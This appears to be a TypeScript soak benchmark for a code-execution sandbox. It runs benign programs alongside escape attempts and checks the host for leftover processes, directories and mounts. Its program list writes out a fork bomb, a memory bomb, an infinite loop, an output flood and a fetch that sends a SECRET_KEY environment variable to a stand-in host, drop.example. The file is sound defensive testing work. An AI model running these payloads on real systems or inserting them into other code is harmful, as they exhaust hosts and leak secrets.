// `npm run bench -- sandbox-soak [--minutes M] [--concurrency C]`
// A long soak of the execution sandbox (not part of the test suite): benign tools and escape
// attempts (fork bomb, infinite loop, memory bomb, output flood, exfiltration) run round after
// round, C at a time. After every round it checks that nothing was left behind — no process of
// a finished run on the host, no workspace or trace directory, no tmpfs mount — and that this
// process's memory stays flat. Prints a line per minute and a summary; exits non-zero on a leak.
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { randomBytes } from 'node:crypto';
import { runInSandbox, sandboxAvailable } from '../packages/evidence/src/index.js';
import { rssMb } from './_util.js';

const enc = (s: string) => new TextEncoder().encode(s);

const PROGRAMS: { name: string; ext: string; code: string; opts?: Record<string, number>; envNames?: string[] }[] = [
  { name: 'benign-node', ext: 'js', code: "console.log([1, 2, 3].map((x) => x * 2).join(','));\n" },
  { name: 'benign-python', ext: 'py', code: 'import json\nprint(json.dumps({"ok": True}))\n' },
  {
    name: 'fork-bomb',
    ext: 'py',
    code: 'import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n',
    opts: { timeoutMs: 2000, maxProcesses: 16 },
  },
  { name: 'spin', ext: 'js', code: 'while (true) {}\n', opts: { timeoutMs: 1000 } },
  { name: 'memory', ext: 'js', code: 'const a = [];\nwhile (true) a.push(Buffer.alloc(32 << 20, 1));\n', opts: { memoryMb: 64 } },
  { name: 'flood', ext: 'js', code: "const s = 'y'.repeat(1 << 20);\nfor (let i = 0; i < 50; i++) process.stdout.write(s);\n", opts: { maxOutputBytes: 1024 } },
  {
    name: 'exfil',
    ext: 'js',
    code: "fetch('http://drop.example/x', { method: 'POST', body: process.env.SECRET_KEY }).then(() => {}, () => {});\n",
    envNames: ['SECRET_KEY'],
  },
];

function hostProcessesWith(marker: string): number {
  let n = 0;
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      if (readFileSync(`/proc/${name}/cmdline`, 'latin1').includes(marker)) n++;
    } catch {
      // gone
    }
  }
  return n;
}

const leftovers = () => readdirSync(tmpdir()).filter((f) => f.startsWith('sigma-sandbox-') || f.startsWith('sigma-trace-')).length;
const mounts = () =>
  readFileSync('/proc/self/mounts', 'utf8')
    .split('\n')
    .filter((l) => l.startsWith('sigma-tmp ') || l.startsWith('sigma-shm ')).length;

export async function run(args: string[]): Promise<void> {
  const num = (flag: string, dflt: number) => {
    const i = args.indexOf(flag);
    return i >= 0 ? Math.max(1, Number(args[i + 1]) || dflt) : dflt;
  };
  const minutes = num('--minutes', 2);
  const concurrency = num('--concurrency', 3);
  const avail = await sandboxAvailable();
  if (!avail.available) {
    console.log(`sandbox not available here: ${avail.reason}`);
    return;
  }
  const before = leftovers();
  const end = Date.now() + minutes * 60_000;
  const outcomes = new Map<string, number>();
  const problems: string[] = [];
  let runs = 0;
  let nextReport = Date.now() + 60_000;
  const rss0 = rssMb(process.pid) ?? 0;
  let round = 0;
  while (Date.now() < end) {
    round++;
    const batch = Array.from({ length: concurrency }, (_, i) => PROGRAMS[(round * concurrency + i) % PROGRAMS.length]!);
    const markers = batch.map(() => `soak${randomBytes(5).toString('hex')}`);
    const records = await Promise.all(
      batch.map((p, i) =>
        runInSandbox({
          files: [{ path: `${markers[i]}.${p.ext}`, bytes: enc(p.code) }],
          entry: `${markers[i]}.${p.ext}`,
          envNames: p.envNames,
          ...(p.opts ?? {}),
        }),
      ),
    );
    runs += records.length;
    records.forEach((r, i) => {
      const k = `${batch[i]!.name}:${r.outcome}`;
      outcomes.set(k, (outcomes.get(k) ?? 0) + 1);
      if (r.outcome !== 'COMPLETED') problems.push(`${batch[i]!.name}: ${r.outcome} ${r.reason}`);
    });
    await new Promise((r) => setTimeout(r, 200));
    for (const m of markers) if (hostProcessesWith(m) > 0) problems.push(`round ${round}: a process of ${m} outlived its run`);
    if (leftovers() > before) problems.push(`round ${round}: ${leftovers() - before} workspace/trace directories left in ${tmpdir()}`);
    if (mounts() > 0) problems.push(`round ${round}: a sandbox tmpfs is mounted in the host namespace`);
    if (Date.now() >= nextReport) {
      nextReport += 60_000;
      console.log(`${new Date().toISOString()}  ${runs} runs, rss ${rssMb(process.pid)?.toFixed(0)} MB, problems ${problems.length}`);
    }
  }
  const rss1 = rssMb(process.pid) ?? 0;
  console.log(`soak: ${runs} runs in ${minutes} min (${concurrency} at a time); rss ${rss0.toFixed(0)} → ${rss1.toFixed(0)} MB`);
  for (const [k, n] of [...outcomes].sort()) console.log(`  ${k.padEnd(28)} ${n}`);
  if (problems.length > 0) {
    console.log(`problems (${problems.length}):`);
    for (const p of problems.slice(0, 50)) console.log(`  ${p}`);
    process.exitCode = 1;
  } else console.log('no leftovers: no process, directory or mount outlived its run');
}
